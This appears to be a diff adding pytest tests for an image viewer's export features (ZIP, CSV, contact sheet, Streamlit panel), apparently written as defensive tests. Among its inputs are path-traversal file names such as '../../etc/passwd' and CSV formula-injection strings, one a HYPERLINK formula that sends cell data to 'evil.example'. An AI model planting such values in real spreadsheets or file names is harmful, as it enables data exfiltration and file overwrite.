@@ -1,0 +1,443 @@
+"""Exports against the demo API over real HTTP: ZIP, directory, CSV, contact sheet, UI panel."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import zipfile
+from collections.abc import Iterator
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from PIL import Image
+
+from viewer import export
+from viewer.api import Client
+from viewer.config import Settings
+from viewer.demo.data import NAMESPACE, SAMPLE_GROUP_ID
+from viewer.demo.server import DemoServer
+from viewer.geometry import Placement
+from viewer.hosts import HostPolicy
+from viewer.models import Group, parse_group
+from viewer.pipeline import Pipeline, ViewOptions
+from viewer.render import MAX_SHEET_HEIGHT
+from viewer.select import Filters
+
+IMAGE_NAME = re.compile(r"images/\d{4}_[A-Za-z0-9._-]+\.jpg")
+
+
+@pytest.fixture()
+def pipe(settings: Settings, policy: HostPolicy) -> Iterator[Pipeline]:
+    pipeline = Pipeline(settings, policy)
+    try:
+        yield pipeline
+    finally:
+        pipeline.close()
+
+
+def fetch(settings: Settings, group_id: str) -> tuple[Group, str | None]:
+    """The group, and the bearer token the client was given for it."""
+    with Client(settings) as client:
+        group = client.get_group(NAMESPACE, group_id)
+        return group, client._token
+
+
+def zipped(
+    group: Group, pipe: Pipeline, settings: Settings, **options: object
+) -> tuple[zipfile.ZipFile, list[export.ImageFailure]]:
+    data, failures = export.build_zip(
+        group,
+        group.faces,
+        pipeline=pipe,
+        options=ViewOptions(**options),  # type: ignore[arg-type]
+        settings=settings,
+        namespace=NAMESPACE,
+    )
+    return zipfile.ZipFile(io.BytesIO(data)), failures
+
+
+def rows_of(data: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
+
+
+# --- names and cells ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("crowd-0001", "crowd-0001"),
+        ("../../etc/passwd", "etc_passwd"),
+        ("..\\..\\windows\\system32", "windows_system32"),
+        ("a/b c", "a_b_c"),
+        ("..", "group"),
+        ("", "group"),
+        (None, "group"),
+        (".hidden", "hidden"),
+        ("-rf", "rf"),
+        ("a..b...c", "a.b.c"),
+        ("Zoë café", "Zo_caf"),
+        ("x" * 500, "x" * export.NAME_LIMIT),
+    ],
+)
+def test_safe_name_keeps_only_plain_characters(text: str | None, expected: str) -> None:
+    name = export.safe_name(text)
+    assert name == expected
+    assert re.fullmatch(r"[A-Za-z0-9._-]+", name)
+    assert not name.startswith((".", "-"))
+
+
+def test_image_file_names_number_and_name_each_image_safely() -> None:
+    faces = parse_group(
+        {"images": [{"customId": "../../secret"}, {"id": "ab/cd"}, {}, {"customId": "ok"}]}
+    ).faces
+    names = export.image_file_names([(None, [f]) for f in faces])
+    assert names == [
+        "0001_secret.jpg",
+        "0002_ab_cd.jpg",
+        "0003_image.jpg",
+        "0004_ok.jpg",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+SUM(A1)", "'+SUM(A1)"),
+        ("-2+3", "'-2+3"),
+        ("@cmd", "'@cmd"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("plain", "plain"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_csv_cell_defuses_formulas(value: str, expected: str) -> None:
+    assert export.csv_cell(value) == expected
+
+
+def test_faces_csv_guards_api_text_but_leaves_numbers_alone() -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    group = parse_group(
+        {
+            "id": "g",
+            "images": [
+                {
+                    "id": "@id",
+                    "customId": hostile,
+                    "feedId": "+cam",
+                    "identityId": "-who",
+                    "groupId": "\tg",
+                    "url": "https://images.example/a.jpg",
+                    "type": "=FACE",
+                    "boundingBox": {"xMin": -0.02, "yMin": 0.1, "xMax": 0.5, "yMax": 0.6},
+                    "boundingBoxConfidence": 0.9,
+                    "sharpness": 0.5,
+                    "isFrontal": True,
+                    "width": 100,
+                    "height": 50,
+                    "createdAt": 1487648348000,
+                }
+            ],
+        }
+    )
+    face = group.faces[0]
+    placement = Placement((0.0, 5.0, 50.0, 30.0), "fractions", ("clamped",))
+    data = export.faces_csv(
+        group,
+        group.faces,
+        {face.key: placement},
+        {face.key: ["=flag"]},
+        image_wh_by_key={face.key: (100, 50)},
+    )
+    (row,) = rows_of(data)
+    assert row["customId"] == "'" + hostile
+    assert row["id"] == "'@id"
+    assert row["feedId"] == "'+cam"
+    assert row["identityId"] == "'-who"
+    assert row["groupId"] == "'\tg"
+    assert row["type"] == "'=FACE"
+    assert row["flags"] == "'=flag"
+    assert row["xMin"] == "-0.02"  # a number we wrote, not API text: no apostrophe
+    assert (row["x0"], row["y0"], row["x1"], row["y1"]) == ("0", "5", "50", "30")
+    assert (row["fx0"], row["fy0"], row["fx1"], row["fy1"]) == ("0", "0.1", "0.5", "0.6")
+    assert row["createdAt"] == "2017-02-21T03:39:08.000Z"
+    assert row["isFrontal"] == "true"
+    assert row["problems"] == "clamped"
+    text_columns = ("id", "customId", "feedId", "identityId", "groupId", "type", "flags")
+    assert all(not row[c].startswith(export.FORMULA_STARTS) for c in text_columns)
+
+
+def test_describe_filters_names_each_filter() -> None:
+    assert export.describe_filters(None) == "none"
+    assert export.describe_filters(Filters()) == "none"
+    text = export.describe_filters(
+        Filters(min_confidence=0.8, min_sharpness=0.4, pose="profile", feeds=("cam\x1b1",))
+    )
+    assert (
+        text == "confidence at least 80%; sharpness at least 0.40; profile faces only; feeds cam 1"
+    )
+
+
+# --- the ZIP ------------------------------------------------------------------------------
+
+
+def test_zip_holds_full_size_images_csv_json_and_readme(
+    demo: DemoServer, settings: Settings, pipe: Pipeline
+) -> None:
+    group, token = fetch(settings, "demo-crowd")
+    archive, failures = zipped(group, pipe, settings)
+    assert failures == []
+    names = archive.namelist()
+    images = [n for n in names if n.startswith("images/")]
+    assert sorted(set(names) - set(images)) == ["README.txt", "faces.csv", "group.json"]
+    assert len(images) == len(group.image_urls) == 10
+    assert all(IMAGE_NAME.fullmatch(n) for n in images)
+    assert [n[7:11] for n in images] == [f"{i:04d}" for i in range(1, 11)]
+
+    photos = demo.data.photos
+    for name, url in zip(images, group.image_urls, strict=True):
+        with Image.open(io.BytesIO(archive.read(name))) as image:
+            image.load()
+            assert image.format == "JPEG"
+            path = url.removeprefix(demo.base_url)
+            assert image.size == photos[path].wh  # full size, not a thumbnail
+
+    assert json.loads(archive.read("group.json")) == demo.data.groups[(NAMESPACE, "demo-crowd")]
+
+    readme = archive.read("README.txt").decode("utf-8")
+    assert "Group:        demo-crowd" in readme
+    assert f"Namespace:    {NAMESPACE}" in readme
+    assert f"API host:     {settings.api_host}" in readme
+    assert "Faces:        13 of 13" in readme
+    assert "Filters:      none" in readme
+
+    secrets = [settings.client_secret, token, demo.static_token, "Bearer", "Authorization"]
+    assert token and settings.client_secret
+    for name in names:
+        data = archive.read(name)
+        for secret in secrets:
+            assert secret is not None
+            assert secret.encode() not in data, (name, secret)
+
+
+def test_zip_csv_has_every_column_and_one_row_per_face(
+    demo: DemoServer, settings: Settings, pipe: Pipeline
+) -> None:
+    group, _ = fetch(settings, "demo-pixels")
+    archive, _ = zipped(group, pipe, settings)
+    text = archive.read("faces.csv").decode("utf-8")
+    header = next(csv.reader(io.StringIO(text)))
+    assert header == list(export.CSV_COLUMNS)
+    for column in ("index", "customId", "url", "createdAt", "xMin", "yMax", "x0", "fy1"):
+        assert column in header
+    rows = rows_of(text.encode())
+    assert len(rows) == len(group.faces) == 16
+    names = set(archive.namelist())
+    for face, row in zip(group.faces, rows, strict=True):
+        assert row["index"] == str(face.index)
+        assert row["id"] == face.id
+        assert row["image_file"] in names
+        assert row["createdAt"].endswith("Z") and row["createdAt"][:19] == (
+            face.created_at.strftime("%Y-%m-%dT%H:%M:%S") if face.created_at else ""
+        )
+        assert row["interpretation"] in ("pixels", "pixels, scaled")
+        w, h = int(row["image_width"]), int(row["image_height"])
+        x0, x1 = float(row["x0"]), float(row["x1"])
+        assert float(row["fx0"]) == pytest.approx(x0 / w, abs=1e-5)
+        assert float(row["fx1"]) == pytest.approx(x1 / w, abs=1e-5)
+        assert 0 <= x0 < x1 <= w and 0 <= float(row["y0"]) < float(row["y1"]) <= h
+    scaled = [r for r in rows if r["interpretation"] == "pixels, scaled"]
+    assert len(scaled) == 2  # two faces report a larger size than the image served
+
+
+def test_zip_of_a_broken_group_lists_each_failed_image(settings: Settings, pipe: Pipeline) -> None:
+    group, _ = fetch(settings, "demo-broken")
+    archive, failures = zipped(group, pipe, settings)
+    by_face = {f.faces[0]: f for f in failures}
+    assert sorted(by_face) == ["broken-no-url", "broken-not-an-image", "broken-url-404"]
+    assert "404" in by_face["broken-url-404"].reason
+    assert "not an image" in by_face["broken-not-an-image"].reason
+    assert by_face["broken-no-url"].url is None
+
+    images = [n for n in archive.namelist() if n.startswith("images/")]
+    assert len(images) == 6
+    assert all(f"images/{f.file}" not in images for f in failures)
+    readme = archive.read("README.txt").decode("utf-8")
+    assert "(6 drawn, 3 failed)" in readme
+    for failure in failures:
+        assert failure.file in readme and failure.reason in readme
+
+    rows = {r["customId"]: r for r in rows_of(archive.read("faces.csv"))}
+    assert len(rows) == 9
+    assert rows["broken-url-404"]["x0"] == "" and rows["broken-url-404"]["image_file"] == ""
+    assert (
+        "image not drawn: The image is gone from its host (404)."
+        in (rows["broken-url-404"]["problems"])
+    )
+    assert "x values were inverted" in rows["broken-inverted-box"]["problems"]
+    assert rows["broken-no-box"]["problems"] == "no bounding box"
+
+
+def test_blur_changes_the_face_and_nothing_far_from_it(settings: Settings, pipe: Pipeline) -> None:
+    group, _ = fetch(settings, SAMPLE_GROUP_ID)
+    plain, _ = zipped(group, pipe, settings, show_labels=False)
+    blurred, _ = zipped(group, pipe, settings, show_labels=False, blur=True)
+    (name,) = [n for n in plain.namelist() if n.startswith("images/")]
+
+    def pixels(archive: zipfile.ZipFile, box: tuple[int, int, int, int]) -> list[int]:
+        with Image.open(io.BytesIO(archive.read(name))) as image:
+            return list(image.convert("L").crop(box).tobytes())
+
+    def mean_difference(box: tuple[int, int, int, int]) -> float:
+        a, b = pixels(plain, box), pixels(blurred, box)
+        return sum(abs(x - y) for x, y in zip(a, b, strict=True)) / len(a)
+
+    # the sample's 150x200 image; its face box is x 36..113, y 48..193
+    face_inside = (50, 70, 100, 170)
+    far_corner = (0, 0, 24, 32)
+    assert mean_difference(face_inside) > 4.0
+    assert mean_difference(far_corner) < 1.0
+
+
+def test_progress_counts_images_up_to_the_total(settings: Settings, pipe: Pipeline) -> None:
+    group, _ = fetch(settings, "demo-crowd")
+    seen: list[tuple[int, int]] = []
+    export.build_zip(
+        group,
+        group.faces,
+        pipeline=pipe,
+        options=ViewOptions(),
+        settings=settings,
+        on_progress=lambda done, total: seen.append((done, total)),
+    )
+    assert seen[0] == (0, 10) and seen[-1] == (10, 10)
+    assert [d for d, _ in seen] == sorted(d for d, _ in seen)
+
+
+def test_write_dir_writes_the_zips_files(
+    tmp_path: Path, settings: Settings, pipe: Pipeline
+) -> None:
+    group, _ = fetch(settings, "demo-broken")
+    faces = group.faces[:4]
+    archive, _ = zipped(replace(group, faces=faces), pipe, settings)
+    failures = export.write_dir(
+        tmp_path / "out",
+        group,
+        faces,
+        pipeline=pipe,
+        options=ViewOptions(),
+        settings=settings,
+    )
+    written = sorted(
+        p.relative_to(tmp_path / "out").as_posix()
+        for p in (tmp_path / "out").rglob("*")
+        if p.is_file()
+    )
+    assert written == sorted(archive.namelist())
+    assert [f.file for f in failures] == ["0003_broken-url-404.jpg"]
+    for name in written:
+        if name != "README.txt":  # README holds the export time
+            assert (tmp_path / "out" / name).read_bytes() == archive.read(name), name
+
+
+# --- the contact sheet --------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("fmt", "pil_format"), [("png", "PNG"), ("jpeg", "JPEG")])
+def test_contact_sheet_is_1920_wide(
+    settings: Settings, pipe: Pipeline, fmt: str, pil_format: str
+) -> None:
+    group, _ = fetch(settings, "demo-crowd")
+    data = export.contact_sheet_bytes(
+        group, group.faces, pipeline=pipe, options=ViewOptions(), fmt=fmt
+    )
+    with Image.open(io.BytesIO(data)) as sheet:
+        assert sheet.format == pil_format
+        assert sheet.width == 1920
+        assert 300 < sheet.height < 2000
+
+
+def test_contact_sheet_holds_at_most_its_limit(settings: Settings, pipe: Pipeline) -> None:
+    group, _ = fetch(settings, "demo-crowd")
+
+    def height(faces: object, limit: int = export.SHEET_MAX_FACES) -> int:
+        data = export.contact_sheet_bytes(
+            group, faces, pipeline=pipe, options=ViewOptions(), limit=limit
+        )
+        with Image.open(io.BytesIO(data)) as sheet:
+            return sheet.height
+
+    one_row = height(group.faces[:8])
+    assert height(group.faces, limit=8) == one_row < height(group.faces)
+    assert export.sheet_title(group, group.faces, limit=8) == (
+        "Group demo-crowd · 13 faces (first 8 shown)"
+    )
+    assert export.sheet_title(group, group.faces) == "Group demo-crowd · 13 faces"
+
+
+def test_contact_sheet_of_thousands_of_faces_stays_under_the_jpeg_limit(
+    settings: Settings, pipe: Pipeline
+) -> None:
+    group, _ = fetch(settings, "demo-large")
+    assert len(group.faces) == 2000
+    data = export.contact_sheet_bytes(
+        group, group.faces, pipeline=pipe, options=ViewOptions(), fmt="jpeg"
+    )
+    with Image.open(io.BytesIO(data)) as sheet:
+        assert sheet.width == 1920
+        assert sheet.height < MAX_SHEET_HEIGHT
+
+
+def test_contact_sheet_refuses_an_unknown_format(settings: Settings, pipe: Pipeline) -> None:
+    group, _ = fetch(settings, SAMPLE_GROUP_ID)
+    with pytest.raises(ValueError, match="png or jpeg"):
+        export.contact_sheet_bytes(
+            group, group.faces, pipeline=pipe, options=ViewOptions(), fmt="gif"
+        )
+
+
+# --- the Streamlit panel ------------------------------------------------------------------
+
+
+def _panel_app(api_url: str, base_url: str) -> None:
+    from viewer.api import Client
+    from viewer.config import Settings
+    from viewer.hosts import HostPolicy
+    from viewer.pipeline import Pipeline, ViewOptions
+    from viewer.ui.export import export_panel
+
+    s = Settings(api_url=api_url, client_id="panel", client_secret="panel-secret")
+    with Client(s) as client:
+        group = client.get_group("acme", "demo-crowd")
+    export_panel(Pipeline(s, HostPolicy(False, [base_url])), group, group.faces, ViewOptions(), s)
+
+
+def test_export_panel_offers_three_lazy_downloads(demo: DemoServer) -> None:
+    from streamlit.testing.v1 import AppTest
+
+    demo.reset_counts()
+    at = AppTest.from_function(_panel_app, args=(demo.api_url, demo.base_url)).run(timeout=30)
+    assert not at.exception
+    buttons = {b.key: b for b in at.get("download_button")}
+    assert sorted(buttons) == ["download_sheet_jpg", "download_sheet_png", "download_zip"]
+    for button in buttons.values():
+        assert button.proto.deferred_file_id  # data is a callable, built on click
+    assert demo.request_count("/images/") == 0  # so nothing was downloaded to show them
+    assert "13 of 13 faces" in at.caption[0].value
+
+
+def test_export_file_names_come_from_a_safe_group_id() -> None:
+    from viewer.ui.export import export_file_names
+
+    names = export_file_names(parse_group({"id": "../../x y"}))
+    assert names == {
+        "zip": "group-x_y.zip",
+        "png": "group-x_y-faces.png",
+        "jpeg": "group-x_y-faces.jpg",
+    }
